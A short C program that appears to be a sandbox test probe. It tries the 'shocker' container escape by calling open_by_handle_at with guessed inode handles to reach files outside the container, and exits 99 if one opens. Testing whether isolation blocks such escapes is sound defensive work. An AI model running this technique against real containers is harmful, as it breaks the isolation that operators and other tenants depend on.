// tries: opens the host's root by a file handle, without a path
// seen-in: shocker, Docker before 1.0
// walls: seccomp, kernel
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    struct { struct file_handle head; unsigned int inode[8]; } handle;
    const char *places[] = {"/usr", "/etc/ld.so.cache", getenv("SHOWN"), "."};
    for (int i = 0; i < 4; i++) {
        int at = open(places[i], O_RDONLY);
        for (unsigned inode = 1; inode < 4; inode++) {
            memset(&handle, 0, sizeof handle);
            handle.head.handle_bytes = 8;
            handle.head.handle_type = 1;
            handle.inode[0] = inode;
            if (open_by_handle_at(at, &handle.head, O_RDONLY) >= 0) {
                puts("opened a file by its handle");
                return 99;
            }
        }
    }
    puts("attempted");
}
